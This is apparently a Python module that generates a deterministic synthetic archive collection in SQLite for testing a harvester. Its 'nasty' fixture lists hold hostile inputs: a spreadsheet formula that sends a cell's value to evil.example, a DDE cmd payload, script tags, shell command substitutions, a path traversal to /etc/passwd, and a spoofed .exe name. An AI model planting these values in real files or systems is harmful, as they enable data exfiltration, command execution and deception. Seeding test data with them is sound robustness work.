"""A made-up institution's collection, the same for the same `CollectionSpec` on every machine.

Hides how a million files come into being in a minute: bags are drawn in Python, everything that hangs on them is
arithmetic inside SQLite. Every "random" value is an integer hash of (seed, id, salt): no clock, no `random`.
"""

from __future__ import annotations

import sqlite3
from collections.abc import Iterator
from contextlib import closing
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path
from typing import Literal

from harvester.demo.database import (
    FILL_COUNTERS,
    INDEXES,
    OWN_INSTITUTION,
    TABLES,
    TRIGGERS,
    micros,
    refresh_counts,
)

_PRIME = 2_147_483_647
_DAY = 86_400_000_000
_FIRST_DAY = micros(datetime.fromisoformat("2014-01-01T00:00:00+00:00"))
_OBJECT_DAYS = 4_000
_ODD_PAST = micros(datetime.fromisoformat("2000-01-01T00:00:00+00:00"))
_AHEAD = micros(datetime.fromisoformat("2087-05-04T03:02:01.500000+00:00"))

_STORAGE = ("Standard", "Standard", "Standard", "Glacier-OH", "Glacier-Deep-OR", "Wasabi-VA", "Wasabi-OR")
_ACCESS = ("institution", "institution", "consortia", "restricted")
_PROFILES = (
    "https://raw.githubusercontent.com/APTrust/preservation-services/master/profiles/aptrust-v2.2.json",
    "https://github.com/dpscollaborative/btr_bagit_profile/releases/download/1.0/btr-bagit-profile.json",
)
_TOPICS = ("Glass negatives", "Oral histories", "Field notes", "Campus maps", "Theses", "Sheet music", "Minutes")
_PLACES = ("Charlottesville", "the Tidewater", "Appalachia", "the Eastern Shore", "Richmond", "the Blue Ridge")

# Percent of the mean number of files, and how many of 1,000 bags have it: most bags small, a few very large.
_TAIL = ((40, 0), (340, 15), (640, 40), (840, 100), (940, 200), (988, 500), (999, 1200), (1000, 6000))

NASTY_TEXTS = (
    "line one\nline two\r\nline three",
    "tab\there, bell\a, backspace\b, form feed\f, delete\x7f, unit\x1fseparator",
    "\x1b[31mred\x1b[0m \x1b]0;title\a \x1b[2J",
    "paragraph\u2029line\u2028separator\u0085next",
    "\u0301combining first, e\u0301 and \u0327\u0323\u0300",
    "right \u202egnp.exe\u202c left \u2066isolated\u2069 \u200f mark",
    "emoji 🗄️👩🏽‍🚀🏴󠁧󠁢󠁥󠁮󠁧󠁿 and beyond 𝔘𐍈",
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "<script>alert('&amp;')</script> <!-- > -->",
    "+1-555@cmd|' /C calc'!A0",
    "%2e%2e%2f..%2F 100% %00 %s %(x)s {0} ${HOME} $(id) `id`",
    "?page=2&per_page=0#fragment+plus;semi",
    "C:\\bags\\data \"quoted\" 'single' \\u003c \\n",
    "   leading and trailing   ",
    "\ufeffBOM, zero\u200bwidth, nbsp\u00a0, \ufffd, \ufdd0",
    "000123",
    "NULL",
    "null",
    "Ünïcödé 図書館 مكتبة ספרייה हिन्दी",
    "x" * 5000,
)
"""Texts found in real collections or feared there. None holds U+0000, which PostgreSQL refuses."""

_NASTY_NAMES = (
    "a b  c.txt",
    "100%/%2F/%25.tif",
    "what?.txt",
    "a&b#c+d;e=f.txt",
    "new\nline.txt",
    "\x1b[31mred.txt",
    "sep\u2028arator.txt",
    "e\u0301 vs é.txt",
    "\u202egnp.exe",
    "🗄️.bin",
    '=HYPERLINK("x").csv',
    "<script>.html",
    'back\\slash".txt',
    "../../etc/passwd",
    "//double//slash/",
    "图书馆/" + "long" * 60 + ".txt",
)

_PHRASES = {
    1: "https://github.com/APTrust/preservation-services",
    2: "Completed copy to preservation storage",
    3: "APTrust preservation services + Minio S3 client",
    4: "Put using md5 checksum",
    5: "Calculated fixity value",
    6: "Go language crypto/sha256",
    7: "Fixity matches",
    8: "Assigned new institution.bag/path identifier",
    9: "APTrust preservation services",
    10: "Assigned identifier",
    11: "Copied to replication storage",
    12: "Replicated to secondary storage",
    13: "Fixity check against registered hash",
    14: "Fixity did not match",
    15: "File deleted from preservation storage",
    16: "Deletion requested by institution",
    17: "Object created",
    18: "Intellectual object created",
    19: "Assigned bag identifier",
    20: "Set object access level",
    21: "institution",
    22: "Bag ingested",
}
_NASTY_PHRASE = 100
_NASTY_NAME = 200

# By number within a file: event type, detail, object, outcome information. From the fourth on: fixity checks.
_FILE_EVENTS = (
    ("ingestion", 2, 3, 4),
    ("message digest calculation", 5, 6, 7),
    ("identifier assignment", 8, 9, 10),
    ("replication", 11, 3, 12),
)
_OBJECT_EVENTS = (
    ("creation", 17, 9, 18),
    ("identifier assignment", 19, 9, 10),
    ("access assignment", 20, 9, 21),
    ("ingestion", 22, 3, 4),
)


@dataclass(frozen=True)
class CollectionSpec:
    """What to make up. The same spec gives the same records everywhere.

    `files_per_object` is the mean of a heavy-tailed spread; with `largest_object` the object in the middle of the id
    order has exactly that many files, all with one created_at. `checksums` is the share of files that have any,
    in percent. `stale_counts` makes the cached counts lie by that many rows, "missing" leaves them out, as for
    an institution that joined within the hour. `null_counted` puts a NULL into each of these "list.column" before
    counting, which spoils the cached counts of the list: state, event_type, outcome and action qualify.
    """

    seed: int = 2026
    objects: int = 300
    files_per_object: float = 10.0
    largest_object: int = 0
    events_per_file: int = 4
    nasty: bool = True
    other_institutions: int = 1
    work_items: int = 200
    checksums: int = 50
    deletions: int = 25
    alerts: int = 40
    stale_counts: int | Literal["missing"] = 0
    null_counted: tuple[str, ...] = ()


def build(database: Path, spec: CollectionSpec) -> None:
    """Write the collection into a new SQLite file; an existing file is an error."""
    if database.exists():
        raise FileExistsError(database)
    with closing(sqlite3.connect(database, isolation_level=None)) as connection:
        for pragma in ("synchronous = OFF", "journal_mode = OFF", "cache_size = -400000", "temp_store = MEMORY"):
            connection.execute(f"PRAGMA {pragma}")
        connection.execute("BEGIN")
        for statement in TABLES.split(";"):
            connection.execute(statement)
        _Builder(connection, spec).run()
        for script in (INDEXES, FILL_COUNTERS):
            for statement in script.split(";"):
                connection.execute(statement)
        for target in spec.null_counted:
            _put_null(connection, target)
        if spec.stale_counts != "missing":
            refresh_counts(connection, spec.stale_counts)
        connection.execute("COMMIT")
        connection.executescript(TRIGGERS)
        connection.execute("PRAGMA journal_mode = WAL")
        connection.execute("ANALYZE")


def _put_null(connection: sqlite3.Connection, target: str) -> None:
    table, column = target.split(".")
    if target not in ("objects.state", "files.state", "events.event_type", "events.outcome", "items.action"):
        raise ValueError(f"{target} is not counted")
    connection.execute(
        f"UPDATE {table} SET {column} = NULL WHERE id ="  # noqa: S608
        f" (SELECT id FROM {table} WHERE institution_id = ? ORDER BY id LIMIT 1)",
        (OWN_INSTITUTION,),
    )


def draw(seed: int, number: int, salt: int) -> int:
    """A 64-bit hash (SplitMix64): the generator's only source of chance outside SQL."""
    mask = (1 << 64) - 1
    z = (seed * 0x9E3779B97F4A7C15 + number * 0xBF58476D1CE4E5B9 + salt * 0x94D049BB133111EB) & mask
    z = ((z ^ (z >> 30)) * 0xBF58476D1CE4E5B9) & mask
    z = ((z ^ (z >> 27)) * 0x94D049BB133111EB) & mask
    return z ^ (z >> 31)


def _uuid(high: int, low: int) -> str:
    text = f"{high:016x}{low:016x}"
    return f"{text[:8]}-{text[8:12]}-4{text[13:16]}-8{text[17:20]}-{text[20:]}"


def _fraction(moment: int, chance: int) -> int:
    """The time with a fraction of 0 to 6 digits."""
    unit: int = 10 ** (6 - chance % 7)
    return moment + chance // 7 % 1_000_000 // unit * unit


def _hash(expression: str, salt: int) -> str:
    """SQL for a 31-bit hash: squaring modulo a prime; every product stays below 2**63."""
    mixed = f"((({expression}) * 1103515245 + {salt}) % {_PRIME})"
    return f"(({mixed} * (({expression}) % 65521 + {salt % 60000 + 7919})) % {_PRIME})"


def _fraction_sql(chance: str) -> str:
    """SQL for microseconds with 0 to 6 significant digits."""
    cases = " ".join(f"WHEN {d} THEN ({chance} / 7 % {10**d}) * {10 ** (6 - d)}" for d in range(1, 6))
    return f"(CASE {chance} % 7 {cases} WHEN 6 THEN {chance} / 7 % 1000000 ELSE 0 END)"


def _pick(chance: str, options: tuple[str | None, ...]) -> str:
    """SQL that picks one of these texts."""
    quoted = ["NULL" if option is None else "'" + option.replace("'", "''") + "'" for option in options]
    cases = " ".join(f"WHEN {n} THEN {text}" for n, text in enumerate(quoted[:-1]))
    return f"(CASE {chance} % {len(options)} {cases} ELSE {quoted[-1]} END)"


class _Builder:
    """One build: bags first, then what hangs on them, table by table in ascending id order (appends are cheap)."""

    def __init__(self, connection: sqlite3.Connection, spec: CollectionSpec) -> None:
        self._db = connection
        self._spec = spec
        self._salt = draw(spec.seed, 0, 0) % 1_000_000_007
        self._slots = 0

    def run(self) -> None:
        """Fill every table."""
        self._people()
        self._phrases()
        self._bags()
        self._files()
        self._events()
        self._checksums()
        self._work_items()
        self._deletions()
        self._alerts()
        self._db.execute("DROP TABLE temp.bags")
        self._db.execute("DROP TABLE temp.numbers")

    def _draw(self, number: int, salt: int) -> int:
        return draw(self._spec.seed, number, salt)

    def _people(self) -> None:
        names = {2: "Institution One", 3: "Institution Two"}
        rows: list[tuple[int, str, str, str, int | None]] = [(1, "APTrust", "aptrust.org", "MemberInstitution", None)]
        for number in range(OWN_INSTITUTION, OWN_INSTITUTION + 1 + self._spec.other_institutions):
            name = names.get(number, f"Institution {number - 1}")
            parent = OWN_INSTITUTION if number > 3 else None
            kind = "AssociateMemberInstitution" if parent else "MemberInstitution"
            rows.append((number, name, f"institution{number - 1}.edu", kind, parent))
        self._db.executemany("INSERT INTO institutions VALUES (?, ?, ?, ?, ?)", rows)
        people = [(1, 1, "APTrust System", "system@aptrust.org")]
        for number, *_ in rows[1:]:
            host = f"inst{number - 1}.edu"
            people.append((number * 10, number, f"Inst {number - 1} Admin", f"admin@{host}"))
            people.append((number * 10 + 1, number, f"Inst {number - 1} User", f"user@{host}"))
        self._db.executemany("INSERT INTO users VALUES (?, ?, ?, ?)", people)

    def _phrases(self) -> None:
        rows = list(_PHRASES.items())
        rows += [(_NASTY_PHRASE + n, text) for n, text in enumerate(NASTY_TEXTS)]
        rows += [(_NASTY_NAME + n, text) for n, text in enumerate(_NASTY_NAMES)]
        self._db.executemany("INSERT INTO phrases VALUES (?, ?)", rows)

    def _files_of(self, chance: int) -> int:
        percent = next(percent for limit, percent in _TAIL if chance % 1000 < limit)
        jitter = 50 + chance // 1000 % 101
        return round(self._spec.files_per_object * 1000) * percent * jitter // 10_000_000

    def _bags(self) -> None:
        """Draw the objects, foreign ones in between, and the block of file slots each one has."""
        self._db.execute(
            "CREATE TEMP TABLE bags (id INTEGER PRIMARY KEY, institution_id, start, files, batch, created_at, state,"
            " identifier, storage_option)"
        )
        spec, own, number, slot = self._spec, 0, 0, 1
        middle = spec.objects // 2 if spec.largest_object else -1
        objects, bags, largest = [], [], 0
        while own < spec.objects:
            number += 1 + (self._draw(number, 1) % 5 == 0) * 3
            foreign = spec.other_institutions and self._draw(number, 2) % 6 == 0
            if foreign:
                institution = OWN_INSTITUTION + 1 + self._draw(number, 3) % spec.other_institutions
                files = self._draw(number, 4) % 4
            else:
                institution = OWN_INSTITUTION
                files = self._files_of(self._draw(number, 4))
                if own == middle:
                    files = spec.largest_object
                elif spec.largest_object:
                    files = min(files, max(0, spec.largest_object - 1))
                own += 1
            batch = files == spec.largest_object or self._draw(number, 5) % 3 == 0
            row = self._object(number, institution, files)
            objects.append(row)
            bags.append((number, institution, slot, files, batch, row[8], row[10], row[4], row[13]))
            slot += files + files // 9 + 2 + self._draw(number, 6) % 3
            largest = max(largest, files)
        self._slots = slot
        marks = ", ".join("?" * 18)
        self._db.executemany(f"INSERT INTO objects VALUES ({marks}, 0, 0, 0, 0)", objects)  # noqa: S608
        self._db.executemany("INSERT INTO temp.bags VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)", bags)
        self._db.execute("CREATE TEMP TABLE numbers (k INTEGER PRIMARY KEY)")
        top = max(largest, spec.events_per_file, 8)
        self._db.executemany("INSERT INTO temp.numbers VALUES (?)", ((k,) for k in range(top + 1)))

    def _object(self, number: int, institution: int, files: int) -> tuple[object, ...]:
        def chance(salt: int) -> int:
            return self._draw(number, 100 + salt)

        def text(salt: int, plain: str | None) -> str | None:
            if chance(salt) % 12 == 0:
                return None
            if self._spec.nasty and chance(salt) // 12 % 9 == 0:
                return NASTY_TEXTS[chance(salt) // 108 % len(NASTY_TEXTS)]
            return plain

        host = f"institution{institution - 1}.edu"
        bag = f"bag_{number:06d}"
        if self._spec.nasty and chance(0) % 10 == 0:
            bag = f"{_NASTY_NAMES[chance(0) // 10 % len(_NASTY_NAMES)]}-{number}"
        identifier = f"{host}/{bag}"
        if self._spec.nasty and chance(1) % 40 == 0:
            identifier = str(9_000_000_000 + number)
        created = _fraction(_FIRST_DAY + chance(2) % _OBJECT_DAYS * _DAY + chance(3) % 86_400 * 1_000_000, chance(4))
        updated = created + (chance(5) % 100 * _DAY if chance(6) % 3 == 0 else 0)
        topic = f"{_TOPICS[chance(7) % len(_TOPICS)]} from {_PLACES[chance(8) % len(_PLACES)]}"
        return (
            number,
            institution,
            text(9, f"{topic}, box {number}"),
            text(10, f"{files} digitised items. {topic}."),
            identifier,
            text(11, f"alt-{number}"),
            None if chance(12) % 50 == 0 else _ACCESS[chance(12) % len(_ACCESS)],
            None if chance(13) % 30 == 0 else bag,
            created,
            updated,
            "D" if chance(14) % 15 == 0 else "A",
            None if chance(15) % 12 == 0 else f"{chance(15):016x}{chance(16):016x}",
            text(17, f"group-{chance(18) % 9}"),
            _STORAGE[chance(19) % len(_STORAGE)],
            None if chance(20) % 12 == 0 else _PROFILES[chance(20) % len(_PROFILES)],
            text(21, f"Institution {institution - 1}"),
            text(22, f"sender-{number}"),
            text(23, "Sent by the digital collections unit"),
        )

    def _files(self) -> None:
        """Files bag by bag; a share of those not ingested in one batch came late and have ids far up."""
        end, slot = self._slots, "b.start + n.k + n.k / 9"
        name = "printf('data/%s/item_%06d.%s', CASE WHEN k % 3 = 0 THEN 'tiff' ELSE 'text' END, k, 'bin')"
        phrase = f"{_NASTY_NAME} + h / 13 % {len(_NASTY_NAMES)}"
        nasty = f"'data/' || (SELECT text FROM phrases WHERE id = {phrase})"  # noqa: S608
        when_nasty = f"WHEN h % 13 = 0 THEN {nasty} || '-' || k" if self._spec.nasty else ""
        formats = ("image/tiff", "text/plain", "application/pdf", "audio/wav", None, "application/octet-stream")
        for late, order in ((0, ""), (1, "DESC")):
            self._db.execute(
                f"""
                INSERT INTO files
                SELECT {f"2 * {end} + 11 - slot" if late else "slot"}, institution_id, id,
                    {_pick("(h / 5)", formats)},
                    CASE WHEN h % 97 = 0 THEN NULL WHEN h % 53 = 0 THEN 0 WHEN h % 211 = 0 THEN h * 4096
                         ELSE h % 10007 * (h / 7 % 311) END,
                    identifier || '/' || CASE WHEN k <= 2 THEN 'tag_' || k || '.txt' {when_nasty} ELSE {name} END,
                    CASE WHEN state = 'D' OR h % 23 = 0 THEN 'D' ELSE 'A' END,
                    CASE WHEN h % 31 = 0 THEN NULL WHEN h % 37 = 0 THEN {_ODD_PAST}
                         ELSE created_at + (h % 2000) * 43200000000 END,
                    storage_option,
                    CASE WHEN h % 101 = 0 THEN NULL ELSE printf('%08x-%04x-4%03x-8%03x-%04x%08x',
                        h, slot % 65536, h % 4093, slot % 4001, h % 65521, slot) END,
                    CASE WHEN h % 4 = 0 THEN created_at - (h % 3000) * {_DAY} END,
                    moment,
                    CASE WHEN h % 5 = 0 THEN moment + (h % 90) * {_DAY} ELSE moment END
                FROM (
                    SELECT *, created_at + CASE WHEN batch THEN 0
                        ELSE (h % 600) * 1000000 + {late} * (h % 170) * {_DAY} + {_fraction_sql("h")} END AS moment
                    FROM (
                        SELECT b.*, n.k, {slot} AS slot, {_hash(slot, self._salt)} AS h
                        FROM temp.bags b CROSS JOIN temp.numbers n ON n.k BETWEEN 1 AND b.files
                        ORDER BY b.id {order}, n.k {order} LIMIT -1 OFFSET 0
                    ) WHERE (NOT batch AND h % 11 = 0) = {late} LIMIT -1 OFFSET 0
                )
                """  # noqa: S608
            )

    def _events(self) -> None:
        """Events at ingest next to their file's id, fixity checks years later and so far up in the ids."""
        per_file, width = self._spec.events_per_file, 5
        for number in range(min(per_file, 3)):
            self._file_events(number, f"f.id * {width} + {number}", "0")
        for number in range(3, per_file):
            base = (2 * self._slots + 100) * (width + number - 3)
            self._file_events(number, f"f.id + {base}", f"{(number - 2) * 90 * _DAY}")
        self._object_events(width)

    def _insert_events(self, source: str, values: str) -> None:
        nasty = f"WHEN h % 37 = 0 THEN {_NASTY_PHRASE} + h / 37 % {len(NASTY_TEXTS)}" if self._spec.nasty else ""
        self._db.execute(
            f"""
            INSERT INTO events
            SELECT id, institution_id, object_id, file_id, type,
                CASE WHEN h % 397 = 0 THEN NULL WHEN h % 401 = 0 THEN {_ODD_PAST} WHEN h % 409 = 0 THEN {_AHEAD}
                     ELSE moment END,
                CASE WHEN h % 61 = 0 THEN 'Failure' ELSE 'Success' END,
                printf('%08x-%04x-4%03x-8%03x-%012x', id * 2654435761 % 4294967296, h % 65536, h % 4093, h % 4001, id),
                CASE WHEN h % 43 = 0 THEN printf('%08x-0000-4000-8000-%012x', h, id) END,
                CASE WHEN h % 113 = 0 THEN NULL ELSE 1 END,
                CASE WHEN h % 127 = 0 THEN NULL {nasty} ELSE detail END,
                CASE WHEN h % 131 = 0 THEN NULL ELSE agent END,
                CASE WHEN h % 137 = 0 THEN NULL WHEN h % 2 THEN printf('%08x%08x', h, id) ELSE 7 END,
                CASE WHEN h % 139 = 0 THEN NULL WHEN h % 61 = 0 THEN 14 ELSE information END,
                moment, moment
            FROM (SELECT {values} FROM {source} LIMIT -1 OFFSET 0)
            """  # noqa: S608
        )

    def _file_events(self, number: int, identity: str, later: str) -> None:
        kind, detail, agent, information = ("fixity check", 13, 6, 7) if number > 3 else _FILE_EVENTS[number]
        if number == self._spec.events_per_file - 1:
            removed = "f.state = 'D'"
            kind_sql = f"CASE WHEN {removed} THEN 'deletion' ELSE '{kind}' END"
            detail_sql = f"CASE WHEN {removed} THEN 15 ELSE {detail} END"
            information_sql = f"CASE WHEN {removed} THEN 16 ELSE {information} END"
        else:
            kind_sql, detail_sql, information_sql = f"'{kind}'", str(detail), str(information)
        h = _hash("f.id", self._salt + 1000 + number)
        self._insert_events(
            "files f ORDER BY f.id",
            f"{identity} AS id, f.institution_id, f.intellectual_object_id AS object_id, f.id AS file_id,"
            f" {kind_sql} AS type, {detail_sql} AS detail, {agent} AS agent, {information_sql} AS information,"
            f" {h} AS h, f.created_at + {later} + {number + 1} * 1000003 AS moment",
        )

    def _object_events(self, width: int) -> None:
        for number, (kind, detail, agent, information) in enumerate(_OBJECT_EVENTS):
            h = _hash("b.start", self._salt + 2000 + number)
            self._insert_events(
                "temp.bags b ORDER BY b.id",
                f"b.start * {width} + {number} AS id, b.institution_id, b.id AS object_id, NULL AS file_id,"
                f" '{kind}' AS type, {detail} AS detail, {agent} AS agent, {information} AS information, {h} AS h,"
                f" b.created_at + {number} * 250000 AS moment",
            )

    def _checksums(self) -> None:
        """Digests of a share of the files: md5 and sha256 for each, some with older or further ones."""
        h = _hash("f.id", self._salt + 3000)
        kinds = (("md5", "1", 2), ("sha256", "1", 4), ("sha1", "h % 5 = 0", 2), ("sha512", "h % 7 = 0", 8))
        again = ("sha256", "h % 6 = 0", 4)
        for number, (algorithm, condition, words) in enumerate((*kinds, again)):
            pattern = "%08x" * words * 2
            parts = ", ".join(f"(h * {3 * n + 5} + f_id * {n + number + 1}) % {_PRIME}" for n in range(words * 2))
            later = f"(h % 700) * {_DAY}" if number == 4 else "1500000"
            base = (2 * self._slots + 100) * (2 if number > 1 else 0)
            identity = (
                f"f_id * 2 + {number}" if number < 2 else f"f_id + {base + (number - 2) * (2 * self._slots + 100)}"
            )
            self._db.execute(
                f"""
                INSERT INTO checksums
                SELECT {identity}, institution_id, f_id, '{algorithm}', CASE WHEN h % 83 = 0 THEN NULL
                    ELSE created_at + {later} END, printf('{pattern}', {parts}), created_at, created_at
                FROM (SELECT f.id AS f_id, f.institution_id, f.created_at, {h} AS h FROM files f
                      ORDER BY f.id LIMIT -1 OFFSET 0)
                WHERE h / 11 % 100 < {self._spec.checksums} AND {condition}
                """  # noqa: S608
            )

    def _sample(self, table: str, count: int) -> list[tuple[int, int, int, str]]:
        """Rows of a table spread over its ids: id, institution, created_at, identifier."""
        rows: list[tuple[int, int, int, str]] = self._db.execute(
            f"SELECT id, institution_id, created_at, identifier FROM {table} WHERE id % max(1,"  # noqa: S608
            f" (SELECT max(id) FROM {table}) / ?) = 0 ORDER BY id LIMIT ?",
            (2 * max(1, count), 2 * max(1, count)),
        ).fetchall()
        return rows

    def _ids(self, salt: int, count: int) -> Iterator[tuple[int, int]]:
        """(id, institution) of small tables: gaps, and every sixth row another's; `count` are our own."""
        number, own = 0, 0
        while own < count:
            number += 1 + (self._draw(number, salt) % 4 == 0)
            if self._spec.other_institutions and self._draw(number, salt + 1) % 6 == 0:
                yield number, OWN_INSTITUTION + 1
            else:
                own += 1
                yield number, OWN_INSTITUTION

    def _work_items(self) -> None:
        objects, files = self._sample("objects", 400), self._sample("files", 400)
        stages = ("Receive", "Validate", "Store", "Record", "Cleanup", "Requested", "Resolve")
        statuses = ("Success", "Success", "Success", "Failed", "Pending", "Started", "Cancelled", "Suspended")
        actions = ("Ingest", "Ingest", "Ingest", "Restore Object", "Restore File", "Delete", "Glacier Restore")
        rows = []
        for number, institution in self._ids(300, self._spec.work_items):
            c = [self._draw(number, 310 + n) for n in range(16)]
            mine = [row for row in objects if row[1] == institution]
            target = mine[c[0] % len(mine)] if mine and c[1] % 5 else None
            own_files = [row for row in files if row[1] == institution]
            file = own_files[c[2] % len(own_files)] if own_files and c[3] % 6 == 0 else None
            created = _fraction(_FIRST_DAY + c[4] % _OBJECT_DAYS * _DAY + c[5] % 86_400_000_000, c[6])
            host = f"inst{institution - 1}.edu"
            note = NASTY_TEXTS[c[7] % len(NASTY_TEXTS)] if self._spec.nasty and c[7] % 11 == 0 else "Item is in queue"
            rows.append(
                (
                    number,
                    f"bag_{number:06d}.tar",
                    f"{c[0]:016x}{c[1]:016x}",
                    institution,
                    target[0] if target else None,
                    file[0] if file else None,
                    f"aptrust.receiving.institution{institution - 1}.edu",
                    f"user@{host}",
                    note,
                    actions[c[8] % len(actions)],
                    stages[c[9] % len(stages)],
                    statuses[c[10] % len(statuses)],
                    None if c[10] % 9 == 0 else "Item is awaiting processing",
                    None if c[11] % 8 == 0 else created - _DAY,
                    created + 20_000_000,
                    None if c[11] % 17 == 0 else c[11] % 3 != 0,
                    None if c[12] % 2 else f"worker-{c[12] % 5}",
                    None if c[12] % 2 else c[12] % 30_000,
                    c[13] % 10 == 0,
                    None if c[13] % 4 == 0 else created,
                    None if c[14] % 6 == 0 else c[14] % 10**11,
                    None if c[14] % 3 == 0 else created + 5_000_000,
                    None if c[15] % 10 else "admin@aptrust.org",
                    None if c[15] % 3 else f"admin@{host}",
                    c[15] % 20 + 1 if c[15] % 7 == 0 else None,
                    created,
                    created + c[5] % 3_600_000_000,
                )
            )
        self._db.executemany(f"INSERT INTO items VALUES ({', '.join('?' * 27)})", rows)  # noqa: S608

    def _deletions(self) -> None:
        rows = []
        for number, institution in self._ids(400, self._spec.deletions):
            c = [self._draw(number, 410 + n) for n in range(6)]
            requested = _fraction(_FIRST_DAY + c[0] % _OBJECT_DAYS * _DAY, c[1])
            confirmed, cancelled = c[2] % 3 == 0, c[2] % 3 == 1
            rows.append(
                (
                    number,
                    institution,
                    institution * 10 + 1,
                    requested,
                    institution * 10 if confirmed else None,
                    requested + 3_600_000_000 if confirmed else None,
                    institution * 10 if cancelled else None,
                    requested + 7_200_000_000 if cancelled else None,
                    c[3] % 40,
                    c[4] % 3,
                )
            )
        self._db.executemany(f"INSERT INTO deletions VALUES ({', '.join('?' * 10)})", rows)  # noqa: S608

    def _alerts(self) -> None:
        kinds = ("Deletion Requested", "Deletion Confirmed", "Failed Fixity Check", "Stalled Work Items")
        rows = []
        for number, institution in self._ids(500, self._spec.alerts):
            c = [self._draw(number, 510 + n) for n in range(6)]
            created = _fraction(_FIRST_DAY + c[0] % _OBJECT_DAYS * _DAY, c[1])
            kind = kinds[c[2] % len(kinds)]
            content = f"user@inst{institution - 1}.edu wants to delete some things."
            if self._spec.nasty and c[3] % 7 == 0:
                content = NASTY_TEXTS[c[3] // 7 % len(NASTY_TEXTS)]
            rows.append(
                (
                    number,
                    institution,
                    institution * 10 + c[4] % 2,
                    kind,
                    kind,
                    content,
                    c[5] % 20 + 1 if kind.startswith("Deletion") else None,
                    created,
                    None if c[4] % 5 == 0 else created + 1_000_000,
                    None if c[4] % 2 else created + 9_000_000,
                )
            )
        self._db.executemany(f"INSERT INTO alerts VALUES ({', '.join('?' * 10)})", rows)  # noqa: S608
